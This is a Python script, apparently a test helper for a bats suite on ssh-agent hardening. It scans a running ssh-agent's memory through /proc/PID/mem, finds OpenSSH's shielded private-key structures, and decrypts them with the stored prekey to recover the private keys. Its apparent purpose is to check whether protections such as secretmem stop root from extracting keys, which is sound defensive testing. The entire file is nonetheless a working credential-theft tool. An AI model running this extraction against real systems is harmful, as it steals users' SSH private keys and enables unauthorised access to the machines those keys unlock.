#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""What root can take from an ssh-agent, for agents.bats.

    ssh_agent_scan.py PID HEX...

        The attack on OpenSSH's key shielding: ssh-agent keeps each private key
        encrypted with AES-256-CTR under SHA-512 of a 16 KiB random "prekey", and both
        sit in its memory. struct sshkey ends with
            u_char *shielded_private; size_t shielded_len;
            u_char *shield_prekey;    size_t shield_prekey_len; (16384)
        so every 8-byte-aligned place in a readable mapping holding a pointer, a
        length, a pointer and 16384 is a candidate. For each, reads the prekey and the
        shielded blob through /proc/PID/mem and decrypts it. Prints
            candidate ADDR prekey readable|unreadable blob readable|unreadable
            unshielded ADDR LEN
            found N in unshielded ADDR
        (N: index of the HEX string found in a decrypted key), then
            candidates C, unshielded U
        Exits 0 when the scan ran, 2 on an error.
"""
import hashlib
import struct
import subprocess
import sys

PREKEY_LEN = 16384


def mappings(pid):
    with open("/proc/%d/maps" % pid) as f:
        for line in f:
            parts = line.split()
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            yield lo, hi, parts[1], parts[5] if len(parts) > 5 else ""


def read(mem, addr, n):
    try:
        mem.seek(addr)
        data = mem.read(n)
        return data if len(data) == n else None
    except (OSError, ValueError, OverflowError):
        return None


def aes256ctr_decrypt(key, iv, data):
    r = subprocess.run(["openssl", "enc", "-d", "-aes-256-ctr", "-K", key.hex(), "-iv", iv.hex(),
                        "-nopad", "-nosalt"], input=data, capture_output=True, check=True)
    return r.stdout


def unshield(pid, patterns):
    maps = list(mappings(pid))
    readable = [(lo, hi) for lo, hi, perms, name in maps
                if perms.startswith("r") and "/secretmem" not in name and name not in ("[vvar]", "[vsyscall]")]
    tail = struct.pack("<Q", PREKEY_LEN)
    candidates = unshielded = 0
    seen = set()
    with open("/proc/%d/mem" % pid, "rb", buffering=0) as mem:
        for lo, hi in readable:
            if hi - lo > (256 << 20):
                continue
            data = read(mem, lo, hi - lo)
            if data is None:
                continue
            at = data.find(tail)
            while at >= 0:
                start = at - 24
                if start >= 0 and (lo + start) % 8 == 0:
                    blob_p, blob_len, prekey_p = struct.unpack_from("<QQQ", data, start)
                    if 0 < blob_len < (1 << 20) and blob_p and prekey_p and (blob_p, prekey_p) not in seen:
                        seen.add((blob_p, prekey_p))
                        candidates += 1
                        prekey = read(mem, prekey_p, PREKEY_LEN)
                        blob = read(mem, blob_p, blob_len)
                        print("candidate 0x%x prekey %s blob %s" % (
                            lo + start, "readable" if prekey else "unreadable",
                            "readable" if blob else "unreadable"))
                        if prekey and blob:
                            keyiv = hashlib.sha512(prekey).digest()
                            plain = aes256ctr_decrypt(keyiv[:32], keyiv[32:48], blob)
                            # sshkey_private_serialize: a key type string comes first
                            if plain[4:8] == b"ssh-":
                                unshielded += 1
                                print("unshielded 0x%x %d" % (blob_p, blob_len))
                                for n, p in enumerate(patterns):
                                    if p in plain:
                                        print("found %d in unshielded 0x%x" % (n, blob_p))
                at = data.find(tail, at + 1)
    print("candidates %d, unshielded %d" % (candidates, unshielded))


def main():
    if len(sys.argv) < 2 or not sys.argv[1].isdigit():
        print(__doc__, file=sys.stderr)
        return 2
    unshield(int(sys.argv[1]), [bytes.fromhex(h) for h in sys.argv[2:]])
    return 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except (OSError, ValueError, subprocess.CalledProcessError) as e:
        print("ssh_agent_scan.py: %s" % e, file=sys.stderr)
        sys.exit(2)
